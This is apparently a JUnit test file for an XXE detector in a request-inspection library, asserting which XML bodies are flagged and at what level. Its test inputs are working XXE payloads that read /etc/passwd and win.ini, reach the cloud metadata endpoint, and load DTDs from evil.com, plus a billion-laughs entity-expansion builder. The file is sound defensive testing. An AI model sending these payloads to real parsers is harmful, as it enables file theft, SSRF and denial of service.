package io.bulwark.inspect;

import static io.bulwark.inspect.Values.body;
import static io.bulwark.inspect.Values.run;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XxeDetectorTest {
    private final XxeDetector detector = new XxeDetector();

    private int level(String xml) {
        return Values.level(detector, body(xml));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
                "<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\"> ]><a>&xxe;</a>",
                "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"-//x//y\" \"http://evil.com/x.dtd\">]><a>&xxe;</a>",
                "<!doctype foo [<!entity xxe system 'file:///c:/windows/win.ini'>]><a>&xxe;</a>",
                "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.com/evil.dtd\"> %xxe;]><a/>",
                "<!DOCTYPE foo [<!ENTITY % p1 \"<!ENTITY exfil 'x'>\"> %p1;]><a>&exfil;</a>",
                "<!DOCTYPE foo SYSTEM \"http://evil.com/evil.dtd\"><foo/>",
                "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
                "<!DOCTYPE\n  foo\n  [\n  <!ENTITY\n xxe\n SYSTEM\n \"file:///etc/passwd\"\n  >\n ]><foo>&xxe;</foo>"
            })
    void flags_external_entities_and_xinclude_at_level_1(String xml) {
        List<Finding> findings = run(detector, body(xml));
        assertThat(findings).singleElement().satisfies(f -> {
            assertThat(f.paranoia()).isEqualTo(1);
            assertThat(f.confidence()).isGreaterThanOrEqualTo(0.85);
        });
    }

    @Test
    void flags_billion_laughs() {
        StringBuilder b = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            b.append("<!ENTITY lol").append(i).append(" \"");
            for (int k = 0; k < 10; k++) {
                b.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
            }
            b.append("\">");
        }
        b.append("]><lolz>&lol9;</lolz>");
        Finding f = run(detector, body(b.toString())).get(0);
        assertThat(f.paranoia()).isEqualTo(1);
        assertThat(f.evidence()).startsWith("<!DOCTYPE lolz");
    }

    @Test
    void flags_internal_entity_at_level_2() {
        assertThat(level("<!DOCTYPE note [<!ENTITY writer \"Donald Duck.\">]><note>&writer;</note>"))
                .isEqualTo(2);
    }

    @Test
    void flags_utf16_bodies_read_as_bytes() {
        String xml =
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        String le = new String(xml.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1);
        String be = new String(xml.getBytes(StandardCharsets.UTF_16), StandardCharsets.ISO_8859_1);
        assertThat(level(le)).isEqualTo(1);
        assertThat(level(be)).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id><note>Fish &amp; chips</note></order>",
                "<!DOCTYPE html><html><body>hello</body></html>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
                "<a><!-- a comment about entities: SYSTEM --></a>",
                "<![CDATA[<!ENTITY is just text here>]]>",
                "plain text with 50% off",
                "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>"
            })
    void ignores_plain_xml(String xml) {
        assertThat(run(detector, body(xml))).isEmpty();
    }

    @Test
    void stays_linear_on_ten_thousand_entity_declarations() {
        StringBuilder b = new StringBuilder("<!DOCTYPE a [");
        for (int i = 0; i < 10_000; i++) {
            b.append("<!ENTITY e")
                    .append(i)
                    .append(" \"")
                    .append(i == 0 ? "x" : "&e" + (i - 1) + ";&e" + (i - 1) + ";")
                    .append("\">");
        }
        b.append("]><a>&e9999;</a>");
        long start = System.nanoTime();
        assertThat(level(b.toString())).isEqualTo(1);
        assertThat(run(detector, body("<!".repeat(500_000)))).isEmpty();
        assertThat(run(detector, body("<!DOCTYPE a [" + "<!ENTITY \"".repeat(100_000))))
                .isNotEmpty();
        assertThat(run(detector, body("<!DOCTYPE a [" + "%".repeat(1 << 20)))).isEmpty();
        assertThat(System.nanoTime() - start).isLessThan(5_000_000_000L);
    }
}
